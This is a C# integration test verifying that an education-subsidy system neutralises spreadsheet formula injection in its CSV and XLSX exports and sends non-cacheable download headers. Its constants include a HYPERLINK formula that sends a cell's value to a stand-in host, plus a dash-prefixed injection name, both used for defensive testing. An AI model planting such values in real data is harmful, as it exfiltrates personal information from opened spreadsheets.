using System.Globalization;
using System.Net.Http.Headers;
using System.Text.Json.Nodes;
using EduRelief.Tests.Disbursement;
using EduRelief.Tests.Hosting;
using EduRelief.Tests.Rectification;
using EduRelief.Tests.Eligibility;
using Xunit;
using GeneratedRosters = EduRelief.Tests.Generator.RosterFiles;

namespace EduRelief.Tests.Exports;

/// <summary>
/// DOMAIN.md "Exports" over HTTP: the sample cycle with 张三 (eligible, living subsidy 625) and 郑十 (a child found in
/// no school) both named by a formula, and 张三's school named like one. Every CSV and XLSX the cycle yields (the
/// ledger, the public notice's workbook, the rectification ledger, the bank's payment file, the fund disclosure once
/// paid)
/// carries them inert, and every download with personal data answers no-store and nosniff.
/// </summary>
public sealed class SafeExportsTests
{
    private const string Formula = "=HYPERLINK(\"http://x/?\"&C2,\"点此\")";
    private const string School = "-城关镇第一小学";

    [Fact]
    public async Task Downloads_RosterNamesLikeFormulas_InertInEveryCsvAndXlsxAndNeverCached()
    {
        await using var app = await AppProcess.StartAsync();
        var admin = app.Admin;
        var inspector = await app.ClientForRoleAsync("inspector");
        var id = await SampleCycle.ToReviewAsync(admin, renamed: new Dictionary<string, string> { ["张三"] = Formula, ["郑十"] = Formula, ["城关镇第一小学"] = School });

        // The ledger in review: 张三 on the living-subsidy sheet, 郑十 on 控辍保学.
        var ledger = await DownloadAsync(inspector, $"/api/cycles/{id}/ledger.xlsx");
        DownloadAssert.InertInXlsx(ledger, Formula);
        DownloadAssert.InertInXlsx(ledger, School);

        // Approval publishes the notice and opens 郑十's 控辍保学 item.
        await admin.PostAsync("/api/dev/clock", new { setTo = "2026-09-30T10:00:00+08:00" });
        Assert.Equal(200, (await admin.PostAsync($"/api/cycles/{id}/approve")).Status);
        await Eventually.UntilAsync(() => admin.GetJsonAsync($"/api/cycles/{id}"), r => r.Body!["notice"]?["documents"] is not null, TimeSpan.FromSeconds(60), "notice documents");
        using var anonymous = app.CreateClient(null);
        var notice = await DownloadAsync(anonymous, $"/notices/{id}/4107260001.xlsx");
        DownloadAssert.InertInXlsx(notice, Formula);
        DownloadAssert.InertInXlsx(notice, School);

        var items = (await Eventually.UntilAsync(() => admin.GetJsonAsync($"/api/cycles/{id}/rectification"),
            r => r.Body?["items"] is JsonArray all && all.Any(i => (string?)i!["studentName"] == Formula), TimeSpan.FromSeconds(60), "郑十's 控辍保学 item")).Body!["items"]!.AsArray();
        DownloadAssert.InertInXlsx(await DownloadAsync(inspector, $"/api/cycles/{id}/rectification.xlsx"), Formula);
        // The item is driven by the child's 控辍保学 case: evidence goes to the case, and downloads from it.
        var caseId = (string)items.First(i => (string?)i!["studentName"] == Formula)!["caseId"]!;
        var caseUrl = $"/api/counties/410726/dropout-cases/{caseId}";
        using (var pdf = new ByteArrayContent(EvidenceSamples.Pdf("入学证明")))
        {
            pdf.Headers.ContentType = new MediaTypeHeaderValue("application/pdf");
            using var uploaded = await admin.PostAsync($"{caseUrl}/evidence?fileName=proof.pdf", pdf);
            Assert.Equal(201, (int)uploaded.StatusCode);
        }

        var evidence = (await admin.GetJsonAsync(caseUrl)).Body!["evidence"]![0]!;
        await DownloadAsync(admin, $"{caseUrl}/evidence/{(string)evidence["sha256"]!}");

        // The notice's end cuts a batch per program; 张三's line in the bank's file is text, its amount a number.
        await admin.PostAsync("/api/dev/clock", new { setTo = "2026-10-13T00:00:01+08:00" });
        var paying = (await Eventually.UntilAsync(() => admin.GetJsonAsync($"/api/cycles/{id}"), r => r.Body!["disbursement"]?["batches"] is JsonArray { Count: > 0 }, TimeSpan.FromSeconds(60), "the batches cut at the notice's end")).Body!;
        var batchId = (string)paying["disbursement"]!["batches"]!.AsArray().Single(b => (string?)b!["program"] == "living_subsidy")!["id"]!;
        var records = GeneratedRosters.ParseCsv(EduRelief.Tests.Rosters.RosterFiles.Gb18030.GetString(await DownloadAsync(admin, $"/api/cycles/{id}/batches/{batchId}/payment-file")));
        var line = Assert.Single(records, r => r.Count > 2 && r[2] == SampleCounty.A);
        Assert.Equal("'" + Formula, line[1]);
        Assert.Equal(625m, decimal.Parse(line[4], NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture));

        // Paid in full, the disclosure lists the school.
        var paid = records.Skip(1).SkipLast(1).Select(r => new BankResult.Line(int.Parse(r[0], CultureInfo.InvariantCulture), r[2], decimal.Parse(r[4], CultureInfo.InvariantCulture), true));
        Assert.Equal(202, (await DisbursementApiTests.UploadResultAsync(admin, $"/api/cycles/{id}/batches/{batchId}/result", BankResult.Csv(paid))).Status);
        DownloadAssert.InertInXlsx(await DownloadAsync(inspector, $"/api/cycles/{id}/disclosure.xlsx"), School);
    }

    /// <summary>A 200 download with the private headers, as bytes.</summary>
    private static async Task<byte[]> DownloadAsync(HttpClient client, string url)
    {
        using var response = await client.GetAsync(url);
        Assert.True(response.IsSuccessStatusCode, $"GET {url}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        DownloadAssert.Private(response);
        return await response.Content.ReadAsByteArrayAsync();
    }
}
